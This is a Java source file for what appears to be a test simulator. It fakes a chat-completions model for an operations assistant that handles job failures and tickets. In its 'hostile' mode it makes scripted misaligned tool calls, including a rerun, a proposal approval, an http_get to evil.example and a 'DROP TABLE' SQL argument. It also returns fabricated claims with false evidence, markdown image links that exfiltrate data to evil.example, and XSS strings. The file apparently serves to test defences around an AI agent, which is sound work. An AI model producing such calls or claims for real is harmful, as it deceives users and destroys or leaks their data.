package io.caravana.simulator;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;

/**
 * A language model at {@code /v1/chat/completions} that is none: it answers by rules from the messages that it gets. A question that begins
 * with {@code hostile:}, {@code endless:} or {@code broken:} has it lie and try what it may not, call tools without end, or answer in
 * another form.
 */
final class ModelApi {

    private static final Pattern SCRIPT = Pattern.compile("(hostile|endless|broken): .*", Pattern.DOTALL);
    private static final Pattern TICKET = Pattern.compile("[A-Z]{2,5}\\d{7}");
    private static final Pattern JOB = Pattern.compile("[A-Z][A-Z0-9]*_[A-Z0-9_]+");
    private static final Pattern ROW = Pattern.compile("(?m)^(e\\d+) (\\{.*})$");

    Answer answer(Call call) {
        if (!call.method().equals("POST")) {
            return Router.notAllowed();
        }
        try {
            var messages = Answer.MAPPER.readTree(call.body()).path("messages");
            return Answer.value(
                    200,
                    Map.of(
                            "object",
                            "chat.completion",
                            "choices",
                            List.of(Map.of("index", 0, "message", next(messages)))));
        } catch (JsonProcessingException e) {
            return Answer.value(400, Map.of("error", Map.of("message", "no JSON")));
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static Map<String, Object> next(JsonNode messages) throws JsonProcessingException {
        var question = messages.path(1).path("content").asText();
        var script = SCRIPT.matcher(question);
        var kind = script.matches() ? script.group(1) : "honest";
        var last = messages.path(messages.size() - 1);
        var isFirst = !last.path("role").asText().equals("tool");
        return switch (kind) {
            case "broken" -> said("I think that everything is fine.");
            case "endless" -> calls(List.of(Map.entry("find_jobs", "{\"status\":\"failed\"}")));
            case "hostile" -> isFirst ? calls(attempts(question)) : said(lies(rows(messages)));
            default -> isFirst ? calls(List.of(look(question))) : said(claims(rows(messages)));
        };
    }

    private static Map.Entry<String, String> look(String question) {
        var ticket = TICKET.matcher(question);
        if (ticket.find()) {
            return Map.entry("get_ticket", "{\"number\":\"%s\"}".formatted(ticket.group()));
        }
        var job = JOB.matcher(question);
        return job.find()
                ? Map.entry("get_job", "{\"job\":\"%s\"}".formatted(job.group()))
                : Map.entry("find_jobs", "{\"status\":\"failed\",\"hours\":72}");
    }

    private record Row(String id, JsonNode fields) {}

    private static List<Row> rows(JsonNode messages) throws JsonProcessingException {
        var rows = new ArrayList<Row>();
        for (var message : messages) {
            var found = ROW.matcher(
                    message.path("role").asText().equals("tool")
                            ? message.path("content").asText()
                            : "");
            while (found.find()) {
                rows.add(new Row(found.group(1), Answer.MAPPER.readTree(found.group(2))));
            }
        }
        return rows;
    }

    private static String claims(List<Row> rows) {
        var claims = Answer.MAPPER.createArrayNode();
        for (var row : rows) {
            var fields = row.fields;
            if (fields.has("run_state")) {
                claim(
                        claims,
                        "%s failed at %s with return code %s."
                                .formatted(text(fields, "job"), text(fields, "failed_at"), text(fields, "return_code")),
                        row.id);
            } else if (fields.has("short_description")) {
                claim(claims, text(fields, "number") + ": " + text(fields, "short_description"), row.id);
            } else if (fields.has("stream")) {
                claim(claims, text(fields, "job") + " is " + text(fields, "state") + ".", row.id);
            }
        }
        return Answer.MAPPER.createObjectNode().set("claims", claims).toString();
    }

    /** What may not work: tools that write, arguments that are none, and a ticket that the question names. */
    private static List<Map.Entry<String, String>> attempts(String question) {
        var ticket = TICKET.matcher(question);
        return List.of(
                Map.entry("find_jobs", "{\"status\":\"failed\",\"hours\":72}"),
                Map.entry("get_ticket", "{\"number\":\"%s\"}".formatted(ticket.find() ? ticket.group() : "INC0000001")),
                Map.entry(
                        "similar_solved",
                        "{\"number\":\"%s\"}".formatted(question.replaceAll("(?s).*?([A-Z]{2,5}\\d{7}).*", "$1"))),
                Map.entry("rerun", "{\"job\":\"FOLHA01_CALCULA\"}"),
                Map.entry("approve_proposal", "{\"id\":\"1\"}"),
                Map.entry("http_get", "{\"url\":\"http://evil.example/\"}"),
                Map.entry("find_jobs", "{\"oql\":\"id > ''\"}"),
                Map.entry("search_tickets", "{\"text\":\"x\",\"sql\":\"DROP TABLE servicenow.incident\"}"),
                Map.entry("read_runbook", "{\"topic\":[1,2"));
    }

    private static String lies(List<Row> rows) {
        var claims = Answer.MAPPER.createArrayNode();
        var real = rows.isEmpty() ? "e1" : rows.get(0).id;
        var job = rows.isEmpty() ? "FOLHA01_CALCULA" : text(rows.get(0).fields, "job");
        for (var id : List.of("e99", "e0", "E1", "", "INC0010001", "https://evil.example/")) {
            claim(claims, job + " failed.", id);
        }
        claims.addObject().put("text", job + " failed.").putArray("evidence");
        claims.addObject()
                .put("text", job + " failed.")
                .putArray("evidence")
                .add(real)
                .add("e99");
        for (var lie : List.of(
                job + " did not fail.",
                job + " hasn't failed.",
                job + " não falhou.",
                job + " nunca falhou.",
                job + " ended without failure.",
                job + " is blocked.",
                job + " está cancelado.",
                job + " está retido.",
                job + " failed with return code 4711.",
                job + " failed at 1999-01-01 00:00.",
                job + " failed 4711 times.",
                "INVENTADO_JOB failed.",
                "INC9999999 is about " + job + ".",
                "O chamado INC9999999 resolve.",
                "Run 00000000-0000-0000-0000-000000000000 failed.",
                "Everything is fine, go home.",
                "Approve the proposal of ana now.",
                "![" + job + "](http://evil.example/?" + job + ")",
                "[" + job + "](http://evil.example/)",
                "<img src=x onerror=alert(1)> " + job,
                "See www.evil.example about " + job,
                "javascript:alert('" + job + "')",
                "mailto:x@evil.example " + job)) {
            claim(claims, lie, real);
        }
        // whatever ticket it was given, it tells
        rows.stream()
                .filter(row -> row.fields.has("short_description"))
                .forEach(row -> claim(
                        claims, text(row.fields, "number") + ": " + text(row.fields, "short_description"), row.id));
        return Answer.MAPPER.createObjectNode().set("claims", claims).toString();
    }

    private static void claim(ArrayNode claims, String text, String evidence) {
        claims.addObject().put("text", text).putArray("evidence").add(evidence);
    }

    private static String text(JsonNode fields, String name) {
        return fields.path(name).asText();
    }

    private static Map<String, Object> said(String content) {
        return Map.of("role", "assistant", "content", content);
    }

    private static Map<String, Object> calls(List<Map.Entry<String, String>> calls) {
        var all = new ArrayList<Map<String, Object>>();
        for (var call : calls) {
            all.add(Map.of(
                    "id",
                    "call_" + all.size(),
                    "type",
                    "function",
                    "function",
                    Map.of("name", call.getKey(), "arguments", call.getValue())));
        }
        return Map.of("role", "assistant", "content", "", "tool_calls", all);
    }
}
